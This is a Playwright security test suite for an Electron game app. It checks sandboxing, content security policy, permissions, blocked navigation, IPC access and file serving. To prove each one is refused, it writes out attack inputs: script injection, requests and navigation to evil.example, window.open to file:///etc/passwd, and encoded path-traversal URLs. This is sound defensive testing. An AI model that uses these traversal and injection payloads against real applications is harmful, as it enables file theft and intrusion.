import { expect, type Page } from '@playwright/test'
import type { WebContents, WebPreferences } from 'electron'
import { HomePage } from '../pages/home.ts'
import { test, type Desktop } from './desktop.ts'
import { SystemApps } from './systemApps.ts'

// Electron's security checklist (electronjs.org/docs/latest/tutorial/security), asked of the app as it runs.

/** The address of the window's page as the app knows it. */
const addressOf = (desktop: Desktop) =>
  desktop.main.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows()[0].webContents.getURL())

/** The preferences with which the window was made, as Electron has completed them. */
const preferencesOf = (desktop: Desktop) =>
  desktop.main.evaluate(({ BrowserWindow }) => {
    const { webContents } = BrowserWindow.getAllWindows()[0]
    return (webContents as WebContents & { getLastWebPreferences(): WebPreferences }).getLastWebPreferences()
  })

test.describe('the page', () => {
  test('comes from the app itself, sandboxed and without Node, and has of Electron two functions', async ({
    opened,
  }) => {
    const { page } = opened
    await test.step('it comes by a secure scheme, and so does all that it loads', async () => {
      expect(await addressOf(opened)).toMatch(/^app:\/\/bundle\//)
      expect(await page.evaluate(() => isSecureContext)).toBe(true)
      const loaded = await page.evaluate(() =>
        performance.getEntriesByType('resource').map(({ name }) => name),
      )
      const own = await page.evaluate(() => location.origin)
      expect(loaded.length).toBeGreaterThan(0)
      expect(loaded.filter((name) => !name.startsWith(`${own}/`) && !/^(data|blob):/.test(name))).toEqual([])
    })
    await test.step('it is sandboxed, isolated and without Node, and nothing weakens that', async () => {
      const preferences = await preferencesOf(opened)
      expect(preferences).toMatchObject({ sandbox: true, contextIsolation: true, nodeIntegration: false })
      expect(preferences.webSecurity ?? true).toBe(true)
      expect(preferences.enableBlinkFeatures ?? '').toBe('')
      for (const unsafe of [
        'allowRunningInsecureContent',
        'experimentalFeatures',
        'nodeIntegrationInSubFrames',
        'nodeIntegrationInWorker',
        'webviewTag',
      ] as const) {
        expect(preferences[unsafe] ?? false, unsafe).toBe(false)
      }
      await expect(page.locator('webview')).toHaveCount(0)
    })
    await test.step('its functions ask for a port and for an import, and cannot be replaced', async () => {
      const surface = await page.evaluate(() => ({
        functions: Object.entries(window.desktop ?? {}).map(([name, value]) => `${name}: ${typeof value}`),
        isFrozen: Object.isFrozen(window.desktop),
        isReplaced: Reflect.set(window, 'desktop', {}),
        given: window.desktop?.connect(),
        strangers: ['require', 'process', 'module', 'global', 'Buffer', 'electron', 'ipcRenderer'].filter(
          (name) => name in window,
        ),
      }))
      expect(surface).toEqual({
        functions: ['connect: function', 'importFiles: function'],
        isFrozen: true,
        isReplaced: false,
        given: undefined,
        strangers: [],
      })
    })
  })

  test('is the app’s own, whatever the environment names in its place', async ({ desktop }) => {
    desktop.environment.ELECTRON_RENDERER_URL = 'http://127.0.0.1:1/'
    await desktop.open()
    expect(await addressOf(desktop)).toMatch(/^app:\/\/bundle\//)
  })

  test('refuses scripts in its text, text as script, and whatever is foreign', async ({ opened }) => {
    const { page } = opened
    const attempts = await page.evaluateHandle(() => {
      const directives: string[] = []
      addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        directives.push(effectiveDirective),
      )
      const put = <Tag extends keyof HTMLElementTagNameMap>(
        tag: Tag,
        facts: Partial<HTMLElementTagNameMap[Tag]>,
      ) => document.body.append(Object.assign(document.createElement(tag), facts))
      const attempts = [
        () => put('script', { textContent: 'globalThis.harmed = true' }),
        () => setTimeout('globalThis.harmed = true'),
        () => put('iframe', { srcdoc: '<b>foreign</b>' }),
        () => new Worker('https://evil.example/x.js'),
      ]
      const outcomes = attempts.map((attempt) => {
        try {
          return String(attempt())
        } catch (error) {
          return error instanceof TypeError ? 'refused' : String(error)
        }
      })
      import(String('https://evil.example/x.js')).catch(() => undefined)
      put('style', { textContent: 'body { color: red }' })
      put('img', { src: 'https://evil.example/x.png' })
      put('iframe', { src: 'https://evil.example/' })
      fetch('https://evil.example/').catch(() => undefined)
      return { directives, outcomes }
    })
    const { outcomes } = await attempts.jsonValue()
    expect(new Set(outcomes)).toEqual(new Set(['refused']))
    const all = 'connect-src frame-src img-src require-trusted-types-for script-src-elem style-src-elem'
    const directives = async () => [...new Set((await attempts.jsonValue()).directives)].toSorted().join(' ')
    await expect.poll(directives).toBe(all)
    expect(await page.evaluate(() => 'harmed' in globalThis)).toBe(false)
  })

  test('is denied every permission but those that it uses', async ({ opened }) => {
    const { page } = opened
    const states = () =>
      page.evaluate(async () => {
        const names = ['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read']
        const states = [...names, 'clipboard-write', 'screen-wake-lock'].map(async (name) => {
          const { state } = await navigator.permissions.query({ name: name as PermissionName })
          return [name, state]
        })
        return Object.fromEntries(await Promise.all(states)) as Record<string, string>
      })
    await expect.poll(states).toEqual({
      geolocation: 'denied',
      notifications: 'denied',
      camera: 'denied',
      microphone: 'denied',
      midi: 'denied',
      'clipboard-read': 'denied',
      'clipboard-write': 'granted',
      'screen-wake-lock': 'granted',
    })
    expect(await page.evaluate(() => Notification.requestPermission())).toBe('denied')
    const located = page.evaluate(
      () =>
        new Promise((resolve) =>
          navigator.geolocation.getCurrentPosition(
            () => resolve('found'),
            ({ code, PERMISSION_DENIED }) => resolve(code === PERMISSION_DENIED ? 'denied' : code),
          ),
        ),
    )
    expect(await located).toBe('denied')
  })

  test('cannot be led away from the app', async ({ opened }) => {
    const { page } = opened
    const home = await addressOf(opened)
    await opened.main.evaluate(({ BrowserWindow }) => {
      const tried: [string, boolean][] = []
      Object.assign(globalThis, { tried })
      // Comes after the app's own listener, so that it sees what that one has decided.
      BrowserWindow.getAllWindows()[0].webContents.on('will-navigate', (event) =>
        tried.push([event.url, event.defaultPrevented]),
      )
    })
    const tried = () => opened.main.evaluate(() => (globalThis as unknown as { tried: unknown }).tried)
    const elsewhere = ['https://evil.example/', 'https://bundle.evil.example/', 'http://127.0.0.1:1/']
    for (const [made, address] of elsewhere.entries()) {
      await page.evaluate((address) => location.assign(address), address)
      await expect.poll(tried).toHaveLength(made + 1)
    }
    expect(await tried()).toEqual(elsewhere.map((address) => [address, true]))
    expect(await addressOf(opened)).toBe(home)
    await expect(new HomePage(page).menu).toBeVisible()
  })

  test('opens no window, and of the outside only what the app names, in the system’s browser', async ({
    opened,
  }) => {
    const { page } = opened
    const systemApps = await SystemApps.watch(opened)
    const refused = [
      ...['https://evil.example/', 'http://game-icons.net/', 'file:///etc/passwd', 'about:blank'],
      ...['/', '#/table/x', '#/scoreboard/no-such-game', 'https://evil.example/#/scoreboard/no-such-game'],
    ]
    const allowed = 'https://game-icons.net/about.html'
    for (const address of [...refused, allowed]) {
      await page.evaluate((address) => void window.open(address), address)
    }
    await expect.poll(() => systemApps.addresses()).toEqual([allowed])
    await expect.poll(() => opened.main.windows().length).toBe(1)
  })
})

/** Counts the ports that come to a page from now on. */
const countPorts = (page: Page) =>
  page.evaluate(() => {
    const counted = { ports: 0 }
    Object.assign(window, { counted })
    addEventListener('message', ({ ports }) => (counted.ports += ports.length))
  })
const ports = (page: Page) =>
  page.evaluate(() => (window as unknown as { counted: { ports: number } }).counted.ports)

test.describe('the way to the app', () => {
  test('is open to its own page', async ({ opened }) => {
    const { page } = opened
    const logged = opened.log()
    await countPorts(page)
    await page.evaluate(() => window.desktop?.connect())
    await expect.poll(() => ports(page)).toBe(1)
    expect(opened.log()).toBe(logged)
  })

  test('is closed to a foreign page in its window, and that is logged', async ({ desktop }) => {
    const page = await desktop.open()
    await desktop.main.evaluate(({ BrowserWindow }) =>
      BrowserWindow.getAllWindows()[0].loadURL('data:text/html,<title>foreign</title>'),
    )
    await page.waitForURL('data:**')
    await countPorts(page)
    await page.evaluate(() => [window.desktop?.connect(), window.desktop?.importFiles([])])
    await expect.poll(() => desktop.log()).toMatch(/connect was sent by data:[^]*import was sent by data:/)
    expect(await ports(page)).toBe(0)
  })

  test('is closed to a frame in its own page, even if it had the preload, and that is logged', async ({
    desktop,
  }) => {
    await desktop.open()
    const { preload } = await preferencesOf(desktop)
    const opened = desktop.main.waitForEvent('window')
    await desktop.main.evaluate(async ({ BrowserWindow }, preload) => {
      const window = new BrowserWindow({ webPreferences: { preload, nodeIntegrationInSubFrames: true } })
      await window.loadURL('app://bundle/')
    }, preload)
    const page = await opened
    await page.getByRole('heading', { level: 1 }).waitFor()
    await page.evaluate(
      () =>
        new Promise((resolve) => {
          const frame = Object.assign(document.createElement('iframe'), { onload: resolve })
          document.body.append(frame)
        }),
    )
    await countPorts(page)
    await page.frames()[1].evaluate(() => window.desktop?.connect())
    await expect.poll(() => desktop.log()).toContain('The message connect was sent by about:blank')
    expect(await ports(page)).toBe(0)
  })

  test('answers what cannot be read, and the game goes on', async ({ opened }) => {
    const { page } = opened
    const table = await new HomePage(page).seat({ names: ['Anna', 'Ben'], layout: 'RIVER 1' })
    const answers = await page.evaluate(
      () =>
        new Promise<unknown[]>((resolve) => {
          const messages = ['this is no call', '{}', '[]', '{"i":"1","p":{"u":7}}', null, 7, { i: '1' }]
          const answers: unknown[] = []
          addEventListener('message', ({ data, ports: [port] }) => {
            if (data !== 'contract') return
            port.onmessage = ({ data }) => {
              answers.push(data)
              if (answers.length === messages.length) resolve(answers)
            }
            for (const message of messages) port.postMessage(message)
          })
          window.desktop?.connect()
        }),
    )
    expect(new Set(answers).size).toBe(1)
    expect(answers[0]).toContain('This message is not a call of the contract.')
    await table.playByMouse('sail 5')
    await table.reaches(1)
  })

  test('leads to no file outside of the page’s own', async ({ opened }) => {
    const { page } = opened
    const fetched = (addresses: readonly string[]) =>
      opened.main.evaluate(
        ({ net }, addresses) =>
          Promise.all(
            addresses.map(async (address) => {
              const answer = await net.fetch(address)
              return [address, answer.status, (await answer.text()).length > 0]
            }),
          ),
        addresses,
      )
    expect(await fetched(['app://bundle/index.html'])).toEqual([['app://bundle/index.html', 200, true]])
    const outside = [
      'app://bundle/../../package.json',
      'app://bundle/%2e%2e/%2e%2e/package.json',
      'app://bundle/..%2f..%2fpackage.json',
      'app://bundle/%2e%2e%2f%2e%2e%2fpackage.json',
      'app://bundle/..%5c..%5cpackage.json',
      'app://bundle/assets/..%2f..%2fpreload/index.cjs',
      'app://bundle//etc/passwd',
      'app://other/index.html',
    ]
    expect(await fetched(outside)).toEqual(outside.map((address) => [address, 404, false]))
    const code = await page.evaluate(() => fetch('/..%2f..%2fpackage.json').then(({ status }) => status))
    expect(code).toBe(404)
  })
})
